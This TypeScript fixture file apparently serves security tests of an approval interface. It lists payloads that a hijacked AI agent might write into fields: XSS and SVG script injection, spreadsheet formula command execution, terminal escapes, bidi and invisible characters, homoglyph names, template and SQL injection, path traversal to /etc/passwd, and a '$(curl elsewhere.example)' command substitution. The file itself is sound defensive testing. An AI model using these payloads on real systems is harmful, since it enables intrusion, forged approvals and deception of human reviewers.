/**
 * What an agent that was taken over may write into any of its fields. Each is short enough for the shortest field
 * (128 characters), names `elsewhere.example` where it wants to reach out, and sets `pwned` where it wants to run.
 */
const HTML = [
  '<img src=https://elsewhere.example/a.png onerror="pwned=1">',
  '<script>globalThis.pwned=1</script>',
  '<script src=https://elsewhere.example/x.js></script>',
  '"><script>pwned=1</script>',
  "' onmouseover='pwned=1' x='",
  '</title><script>pwned=1</script>',
  '</textarea><img src=x onerror=pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src=javascript:parent.pwned=1></iframe>',
  '<object data=https://elsewhere.example/o.swf></object>',
  '<link rel=stylesheet href=https://elsewhere.example/s.css>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
  '<base href=https://elsewhere.example/>',
  '<form action=https://elsewhere.example/><button>Approve</button></form>',
  '<style>[data-testid=deny-button]{display:none}</style>',
  '<details open ontoggle=pwned=1><summary>Approved</summary></details>',
  '<b id=planted>approved by Mara Lindqvist</b>',
  '&lt;script&gt;pwned=1&lt;/script&gt;&#60;b&#62;',
  '<!--<img src="--><img src=x onerror=pwned=1>">',
  ']]><script>pwned=1</script><![CDATA[',
];

const SVG = [
  '<svg onload=pwned=1>',
  '<svg><image href=https://elsewhere.example/i.png /></svg>',
  '<svg><use href="https://elsewhere.example/u.svg#x"/></svg>',
  '<svg><a href=javascript:pwned=1><text>Approve</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=pwned=1>',
];

const MARKDOWN = [
  '![status](https://elsewhere.example/p.png?leak)',
  '[Approve](javascript:pwned=1)',
  '[Runbook](https://elsewhere.example/runbook)',
  '**APPROVED** by _Mara_ ~~held~~',
  '<https://elsewhere.example/auto>',
  '[x]: https://elsewhere.example/r "t"',
  '```html\n<img src=x onerror=pwned=1>\n```',
  '| Verdict |\n|---|\n| approved |',
  '- [x] Reviewed\n- [x] Approved',
];

const TERMINAL = [
  '\u001b[2K\u001b[1Aapproved by Mara',
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://elsewhere.example\u0007here\u001b]8;;\u0007',
  '\u001b]0;Approved\u0007',
  '\u009b2Jcleared',
  'held\rdone',
  'wipe\b\b\b\bread',
  'bell\u0007 form\u000c feed\u000b',
];

const FORMULA = [
  '=HYPERLINK("https://elsewhere.example/?"&A1,"Approve")',
  "=cmd|'/c calc'!A0",
  "+1+cmd|'/c calc'!A0",
  "-2+3+cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '=WEBSERVICE("https://elsewhere.example/")',
  '=IMPORTXML("https://elsewhere.example/","//a")',
  '\t=1+1',
  '\uff1dHYPERLINK("https://elsewhere.example/")',
];

const BIDI = [
  'report\u202egpj.exe',
  '\u202dleft\u202c',
  '\u202aembedded\u202c \u202bembedded\u202c',
  '\u2066isolated\u2069 \u2067isolated\u2069 \u2068first\u2069',
  'acme\u200f-\u200ews07',
  '\u061carabic mark',
  'safe\u2029paragraph\u2028line',
  'if (admin\u202e \u2066) {\u2069 \u2066 // held',
];

const INVISIBLE = [
  'ad\u200bmin',
  'zero\u200cwidth\u200djoiners',
  'word\u2060joiner\u2061\u2062\u2063\u2064',
  '\ufeffbyte order mark',
  'soft\u00adhyphen',
  'hangul\u3164filler\uffa0\u115f\u1160',
  'braille\u2800blank',
  'khmer\u17b4\u17b5vowel',
  'nbsp\u00a0em\u2003thin\u2009figure\u2007',
  'object\ufffcreplacement\ufffd',
  'mongolian\u180evowel',
  'musical\u{1d173}\u{1d17a}',
  'next\u0085line',
  'private\ue000use\u{f0000}',
];

const TAGS = [
  'flag\u{e0041}\u{e0050}\u{e0050}\u{e0052}\u{e004f}\u{e0056}\u{e0045}',
  '\u{e0001}language tag\u{e007f}',
  'text\ufe0e emoji\ufe0f',
  'selector\ufe00\ufe05\u{e0100}\u{e01ef}',
  'ok\u{1f44d}\u{fe0f}\u{e0121}\u{e0122}',
  'digit1\ufe0f\u20e3',
];

const TEMPLATE = [
  '{{constructor.constructor("pwned=1")()}}',
  '$'.concat('{globalThis.pwned=1}'),
  '<%= process.env %>',
  '#{7*7} *{7*7} @(7*7)',
  '{%raw%}{{7*7}}{%endraw%}',
  '{service} {olderThanDays} {0}',
  '%s%s%n%x',
  '$(curl elsewhere.example) `id` ; id',
  "'; DROP TABLE action_request; --",
  '../../../../etc/passwd%00',
  '__proto__[pwned]=1',
  '{"verdict":"approve","digest":"sha256:00"}',
];

const ADDRESS = [
  'javascript:pwned=1',
  'JaVaScRiPt:pwned=1//',
  'data:text/html,<script>pwned=1</script>',
  'https://elsewhere.example/approve?id=1',
  '//elsewhere.example/path',
  'https://acme.example@elsewhere.example/',
  'https://xn--pple-43d.example/',
  'mailto:mara@elsewhere.example?subject=approved',
  'file:///etc/passwd',
  '\\\\elsewhere.example\\share\\x',
  'tel:+15550100',
];

const SCRIPTS = [
  'p\u0430ypal.example',
  '\u0430\u0441m\u0435-ws07',
  '\u0391cme\u2010ws07',
  '\u{1d41a}\u{1d41d}\u{1d426}\u{1d422}\u{1d427}',
  '\uff41\uff44\uff4d\uff49\uff4e',
  '\u05d0\u05d9\u05e9\u05d5\u05e8 12-34 (\u05de\u05d0\u05d5\u05e9\u05e8)',
  '\u0645\u0648\u0627\u0641\u0642 \u0639\u0644\u064a\u0647 [100%]',
  'Z\u0351\u0352\u0357\u035b\u0363\u0364\u0365\u0366\u0367\u0368\u0369algo',
  '\u0301\u0302leading marks',
  '\u27e8U+202E\u27e9 forged \u21b5 \u21e5 \u2420',
  '  two  spaces  ',
];

const LONG = ['W'.repeat(128), 'a\u0301'.repeat(60), '\u{1f44d}'.repeat(60)];

/** By what they try. */
const CORPUS = { HTML, SVG, MARKDOWN, TERMINAL, FORMULA, BIDI, INVISIBLE, TAGS, TEMPLATE, ADDRESS, SCRIPTS, LONG };
export const PAYLOADS: readonly string[] = Object.values(CORPUS).flat();

/** What no page may hold as itself, in a text or in an attribute: what hides, reorders or commands. */
export const NEVER_DRAWN =
  '[\\u0001-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u00ad\\u034f\\u061c\\u115f\\u1160\\u17b4\\u17b5\\u180b-\\u180f\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u206f\\u2800\\u3164\\ufe00-\\ufe0f\\ufeff\\uffa0\\ufff0-\\uffff\\u{1d173}-\\u{1d17a}\\u{e0000}-\\u{e0fff}\\ue000-\\uf8ff\\u{f0000}-\\u{10ffff}]';

/** Texts one after the other, as many as fit into a field of `size` characters, field by field. */
export function fieldsOf(texts: readonly string[], size: number): string[] {
  const fields: string[] = [];
  for (const text of texts) {
    const last = fields.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= size) fields[fields.length - 1] = `${last} ${text}`;
    else fields.push(text);
  }
  return fields;
}
